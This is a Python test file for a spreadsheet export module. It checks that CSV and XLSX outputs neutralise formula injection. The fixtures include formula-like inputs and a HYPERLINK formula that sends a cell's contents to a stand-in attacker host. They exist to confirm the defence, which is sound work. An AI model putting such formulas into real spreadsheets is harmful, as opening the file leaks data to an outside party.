from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fairdesk.exports.cells import neutralise, plain, write_csv, write_table, write_xlsx

EVIL = ["=HYPERLINK(\"http://x\")", "+1758", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert str(neutralise(text)).startswith("'")


def test_plain_values_stay() -> None:
    assert neutralise("Joseph") == "Joseph"
    assert neutralise(3) == 3
    assert neutralise(True) == "yes"
    assert neutralise(["a", "b"]) == "a, b"
    assert neutralise("a\x00b") == "ab"


def test_csv_has_bom_and_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ["Name", "Note"], [[e, "Désirée"] for e in EVIL])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert all(r[0].startswith("'") for r in rows[1:])
    assert rows[1][1] == "Désirée"


def test_xlsx_keeps_text_exact_in_string_cells(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(path, ["Name", "n"], [[e, 1] for e in EVIL])
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [plain(e) for e in EVIL]
    for row in rows:
        assert row[0].data_type == "s"  # never "f": no spreadsheet runs it
        assert row[1].value == 1 and row[1].data_type == "n"


def test_xlsx_phone_and_hyperlink_note_read_back_as_typed(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    note = '=HYPERLINK("http://evil.example/?"&A1,"CV")'
    write_xlsx(path, ["Phone", "Notes"], [["+17585550123", note]], title="Candidates")
    book = load_workbook(path)
    sheet = book["Candidates"]
    phone, notes = sheet["A2"], sheet["B2"]
    assert phone.value == "+17585550123" and phone.data_type == "s"
    assert notes.value == note and notes.data_type == "s"
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    raw = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw  # no formula element anywhere in the sheet


def test_write_table_refuses_other_suffixes(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"csv or \.xlsx"):
        write_table(tmp_path / "t.txt", ["a"], [])
